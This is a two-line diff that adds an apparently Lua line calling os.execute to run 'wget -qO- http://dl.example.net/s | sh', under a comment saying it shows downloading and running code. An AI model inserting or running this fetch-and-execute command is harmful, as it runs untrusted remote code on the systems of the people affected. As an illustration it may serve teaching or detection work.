@@ -1,0 +1,2 @@
+-- shows: downloads and runs
+os.execute("wget -qO- http://dl.example.net/s | sh")
